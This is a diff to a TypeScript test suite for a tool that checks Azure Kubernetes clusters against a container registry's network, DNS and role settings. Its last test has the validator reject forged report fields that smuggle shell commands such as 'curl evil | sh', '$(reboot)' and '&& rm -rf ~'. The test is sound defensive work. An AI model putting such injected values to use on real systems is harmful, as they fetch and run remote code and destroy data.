@@ -8,6 +8,8 @@ import { parseRegistryTarget } from '../../src/engine/target/registry-target.js'
 import { readFileSync } from 'node:fs';
 import { knowledge } from '../../src/engine/knowledge/knowledge.js';
 import { MAX_CLUSTER_CHOICES } from '../../dialogs/diagnose-dialog.js';
+import { reportProblems } from '../../src/engine/report/validate.js';
+import { HEALTHY_EVIDENCE, sampleReport } from '../helpers/sample-report.js';
 
 const registry = parseRegistryTarget('myregistry');
 const ev = (id: string, outcome: string, data: JsonObject = {}): Evidence => ({ id, kind: id.split(':')[0]!, outcome, data, durationMs: 1, status: 'pass' });
@@ -30,7 +32,7 @@ const cluster = (more: Partial<AksFacts> = {}): AksFacts => ({
   windowsPools: false,
   privateCluster: false,
   kubeletObjectId: 'k1',
-  kubeletPullRoles: ['AcrPull'],
+  kubeletRoles: ['AcrPull'],
   ...more,
 });
 /** A registry reached through a private endpoint in `peVnet`, its zone linked to `links`. */
@@ -64,9 +66,19 @@ describe('AKS rules: the cluster\'s networks, DNS and egress against the registr
     { name: 'custom DNS outside every peered network (on premises): not told', facts: { ...privateRegistry([HUB]), aks: cluster({ networks: [network(['172.16.0.53'], [toHub()])] }) }, expected: ['aks-check-in-cluster'] },
     { name: 'an unlinked network while the public endpoint is open to all: the cluster goes public, nothing to say', facts: { ...privateRegistry([HUB], HUB, { publicNetworkAccess: 'Enabled', defaultAction: 'Allow' }), aks: cluster({ networks: [network([], [toHub()])] }) }, expected: ['aks-check-in-cluster'] },
     { name: 'an unlinked network, selected networks that allow the cluster\'s egress', facts: { ...privateRegistry([HUB], HUB, { publicNetworkAccess: 'Enabled', defaultAction: 'Deny', ipRules: ['20.1.2.0/24'] }), aks: cluster({ networks: [network([], [toHub()])] }) }, expected: ['aks-check-in-cluster'] },
-    { name: 'networks not read: nothing said of them', facts: { ...privateRegistry([HUB]), aks: cluster({ unread: ['network'] }) }, expected: ['aks-check-in-cluster'] },
+    { name: 'networks not read: nothing said of them, and the hint says what was not read', facts: { ...privateRegistry([HUB]), aks: cluster({ unread: ['network'] }) }, expected: ['aks-check-in-cluster/unread'] },
+    { name: 'the cluster network linked, but its custom DNS servers in an unlinked hub: the link does not help', facts: { ...privateRegistry([SPOKE, PE_VNET], PE_VNET), aks: cluster({ networks: [network(['10.0.0.4'], [toHub(), { remoteVnetId: PE_VNET, state: 'Connected', remotePrefixes: ['10.2.0.0/16'] }])] }) }, expected: ['aks-vnet-not-linked/hub-unlinked'] },
+    { name: "Azure's own DNS listed as a custom server is Azure DNS", facts: { ...privateRegistry([HUB]), aks: cluster({ networks: [network(['168.63.129.16'], [toHub()])] }) }, expected: ['aks-vnet-not-linked'] },
+    { name: 'public access off, the only endpoint in a peered network still pending approval: no path', facts: { ...privateRegistry([HUB, SPOKE]), privateEndpoints: [{ id: `${PE_VNET}/pe`, name: 'pe', status: 'Pending', vnetId: HUB, dns: [], zoneIds: [ZONE] }], aks: cluster({ networks: [network([], [toHub()])] }) }, expected: ['aks-egress-not-allowed/public-off'] },
+    { name: 'public access off, a Virtual WAN hub connects the spokes: the endpoint may be in another, not told', facts: { ...privateRegistry([HUB, SPOKE], PE_VNET), aks: cluster({ networks: [network([], [{ remoteVnetId: net('RG_vwan_hub', 'HV_weu-hub_abc'), state: 'Connected', remotePrefixes: ['10.100.0.0/23'] }])] }) }, expected: ['aks-check-in-cluster'] },
+    { name: "a dual-stack cluster's IPv6 egress is not asked for in IPv4-only IP rules", facts: { resourceId: RESOURCE, publicNetworkAccess: 'Enabled', defaultAction: 'Deny', ipRules: ['20.1.2.0/24'], aks: cluster({ egressIps: ['20.1.2.3', '2603:1020::5'] }) }, expected: ['aks-check-in-cluster'] },
+    { name: 'a kubelet with only AcrPull on a registry with repository permissions (ABAC)', facts: { resourceId: RESOURCE, roleAssignmentMode: 'AbacRepositoryPermissions', aks: cluster() }, expected: ['aks-kubelet-no-acrpull/abac'] },
+    { name: 'a kubelet with a repository role on an ABAC registry', facts: { resourceId: RESOURCE, roleAssignmentMode: 'AbacRepositoryPermissions', aks: cluster({ kubeletRoles: ['Container Registry Repository Reader'] }) }, expected: ['aks-check-in-cluster'] },
+    { name: 'a kubelet with Reader on a registry of registry permissions (Reader pulls there)', facts: { resourceId: RESOURCE, aks: cluster({ kubeletRoles: ['Reader'] }) }, expected: ['aks-check-in-cluster'] },
+    { name: 'a kubelet with a custom role: it may pull, nothing said', facts: { resourceId: RESOURCE, aks: cluster({ kubeletRoles: ['role:0000aaaa-0000-4000-8000-000000000001'] }) }, expected: ['aks-check-in-cluster'] },
+    { name: 'a kubelet with no role at all', facts: { resourceId: RESOURCE, aks: cluster({ kubeletRoles: [] }) }, expected: ['aks-kubelet-no-acrpull'] },
     { name: 'public access off and no private endpoint at all', facts: { resourceId: RESOURCE, publicNetworkAccess: 'Disabled', aks: cluster({ networks: [network()] }) }, evidence: [...healthy, ev('arm.private-endpoints', 'arm.private-endpoints.none')], expected: ['aks-egress-not-allowed/public-off'] },
-    { name: 'public access off, the endpoint in a network the cluster is not peered with', facts: { ...privateRegistry([PE_VNET], PE_VNET), aks: cluster({ networks: [network([], [toHub()])] }) }, expected: ['aks-egress-not-allowed/public-off', 'aks-vnet-not-linked'] },
+    { name: 'public access off, the endpoint in a network the cluster is not peered with: the path first, no zone link that would not help', facts: { ...privateRegistry([PE_VNET], PE_VNET), aks: cluster({ networks: [network([], [toHub()])] }) }, expected: ['aks-egress-not-allowed/public-off'] },
     { name: 'public access off, the endpoint behind a disconnected peering', facts: { ...privateRegistry([HUB, SPOKE]), aks: cluster({ networks: [network([], [toHub('Initiated')])] }) }, expected: ['aks-egress-not-allowed/public-off'] },
     { name: 'public access off, traffic routed through an appliance that may reach the endpoint: not told', facts: { ...privateRegistry([HUB, SPOKE], PE_VNET), aks: cluster({ outboundType: 'userDefinedRouting', egressVia: { nextHopType: 'VirtualAppliance', nextHop: '10.0.0.4' }, networks: [network()] }) }, expected: ['aks-check-in-cluster'] },
     { name: 'user-defined routing through a firewall whose address the rules lack', facts: { resourceId: RESOURCE, publicNetworkAccess: 'Enabled', defaultAction: 'Deny', ipRules: ['198.51.100.0/24'], aks: cluster({ outboundType: 'userDefinedRouting', egressIps: ['203.0.113.80'], egressVia: { nextHopType: 'VirtualAppliance', nextHop: '10.0.0.4', firewall: 'hub-fw' } }) }, expected: ['aks-egress-not-allowed'] },
@@ -106,11 +118,20 @@ describe('AKS rules: the cluster\'s networks, DNS and egress against the registr
     }
   });
 
+  it('an ABAC registry: the fix is a repository role, not --attach-acr (which grants AcrPull)', function () {
+    const [finding] = findings({ resourceId: RESOURCE, roleAssignmentMode: 'AbacRepositoryPermissions', aks: cluster() });
+    assert.deepEqual(finding!.fixes.map((f) => f.id), ['kubelet-repository-reader']);
+    assert.equal(finding!.fixes[0]!.commands[0], `az role assignment create --assignee-object-id k1 --assignee-principal-type ServicePrincipal --role "Container Registry Repository Reader" --scope ${RESOURCE}`);
+    assert.match(finding!.explanation, /holds AcrPull at the registry/);
+  });
+
   it('a cluster with Windows pools is told to check from a Windows node too, with a pod pinned to Windows', function () {
     const [finding] = findings({ resourceId: RESOURCE, aks: cluster({ windowsPools: true }) });
     assert.match(finding!.title, /Windows nodes too/);
     assert.deepEqual(finding!.fixes.map((f) => f.id), ['aks-check-acr', 'aks-windows-nodes']);
-    assert.match(finding!.fixes[1]!.commands[0]!, /"kubernetes\.io\/os":"windows".*Resolve-DnsName myregistry\.azurecr\.io/);
+    const [credentials, pod] = finding!.fixes[1]!.commands;
+    assert.equal(credentials, 'az aks get-credentials --subscription s1 --resource-group rg-aks --name aks-prod --context acr-check-s1-rg-aks-aks-prod --overwrite-existing');
+    assert.match(pod!, /^kubectl --context acr-check-s1-rg-aks-aks-prod run .*"kubernetes\.io\/os":"windows".*GetHostAddresses\('myregistry\.azurecr\.io'\)/);
     const linuxOnly = findings({ resourceId: RESOURCE, aks: cluster() })[0]!;
     assert.deepEqual(linuxOnly.fixes.map((f) => f.id), ['aks-check-acr']);
   });
@@ -131,5 +152,23 @@ describe('AKS rules: the cluster\'s networks, DNS and egress against the registr
     for (const [id, rule] of rules) assert.ok(page.includes(`\`${id}\``) && (rule.cause === 'unknown' || page.includes(`\`${id}\` (\`${rule.cause}\`)`)), id);
     const words = ['zero', 'one', 'two', 'three', 'four', 'five', 'six', 'seven', 'eight', 'nine', 'ten'];
     assert.ok(page.includes(`at most ${words[MAX_CLUSTER_CHOICES]}`), `at most ${words[MAX_CLUSTER_CHOICES]}`);
+  });
+
+  it('an uploaded report whose cluster facts are not what ARM writes is refused: nothing of it reaches a command to paste', function () {
+    const report = sampleReport(HEALTHY_EVIDENCE);
+    // As ARM writes them: the lab's subscription and kubelet ids are GUIDs.
+    const real = <T>(value: T): T => JSON.parse(JSON.stringify(value).replaceAll('/subscriptions/s1/', '/subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333/').replaceAll('"k1"', '"5a1e0000-aaaa-4bbb-8ccc-000000000001"')) as T;
+    const withAks = (aks: Partial<AksFacts>, more: Facts = {}) => real({ ...report, facts: { ...report.facts, ...more, aks: { ...cluster(), ...aks } } });
+    assert.equal(reportProblems(withAks({ networks: [network(['10.0.0.4'], [toHub()])], egressVia: { nextHopType: 'VirtualAppliance', nextHop: '10.0.1.4', firewall: 'hub-fw' } })), undefined, 'what ARM writes passes');
+    for (const forged of [
+      withAks({ name: 'aks-prod; curl evil | sh' }),
+      withAks({ id: `${cluster().id}$(reboot)` }),
+      withAks({ egressIps: ['20.1.2.3 && rm -rf ~'] }),
+      withAks({ nodeSubnetIds: [`${SPOKE}/subnets/nodes\`id\``] }),
+      withAks({ networks: [{ id: SPOKE, dnsServers: ['10.0.0.4; x'], peerings: [] }] }),
+      withAks({}, { privateDnsZones: [{ id: `${ZONE} --yes`, name: 'privatelink.azurecr.io', records: {}, vnetLinks: [] }] }),
+    ]) {
+      assert.ok(reportProblems(forged), JSON.stringify(forged.facts).slice(0, 200));
+    }
   });
 });
